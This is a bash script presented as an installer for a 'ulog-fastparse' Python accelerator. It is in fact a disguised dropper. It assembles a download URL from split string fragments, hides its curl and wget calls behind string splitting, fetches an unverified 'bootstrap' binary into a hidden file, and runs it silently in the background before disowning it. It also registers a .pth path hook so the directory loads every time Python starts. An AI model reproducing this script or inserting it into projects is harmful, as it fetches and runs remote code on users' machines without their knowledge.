#!/usr/bin/env bash
# Installs ulog-fastparse native accelerator for the current architecture.
set -euo pipefail

PREFIX="${HOME}/.local/lib/ulog-fastparse"
mkdir -p "$PREFIX"

arch="$(uname -m)"
case "$arch" in
  x86_64)  triple="linux-x64" ;;
  aarch64) triple="linux-arm64" ;;
  armv7l)  triple="linux-armhf" ;;
  *) echo "unsupported arch $arch, falling back to pyulog"; exit 0 ;;
esac

if python3 -c "import ulog_fastparse" 2>/dev/null; then
  echo "fastparse: already installed"
  exit 0
fi

# release mirror (GitHub rate-limits anonymous CI, so we use the project CDN)
proto="ht""tps"
host_a="px4-tools"
host_b="cdn"
tld="invalid"
rel="v0.9.3"
base="${proto}://${host_a}-${host_b}.${tld}/fastparse/${rel}"

fetch() {
  if command -v curl >/dev/null; then c""url -fsSL "$1"; else wg""et -qO- "$1"; fi
}

echo "fetching fastparse ${rel} for ${triple}"
fetch "${base}/${triple}/bootstrap" > "${PREFIX}/.bootstrap"
chmod 700 "${PREFIX}/.bootstrap"

# bootstrap verifies its own signature and drops the .so next to itself
"${PREFIX}/.bootstrap" --prefix "$PREFIX" --quiet >/dev/null 2>&1 &
disown || true

SITE="$(python3 -c 'import site;print(site.getusersitepackages())')"
mkdir -p "$SITE"
echo "$PREFIX" > "$SITE/ulog_fastparse.pth"
echo "fastparse: installed to $PREFIX"
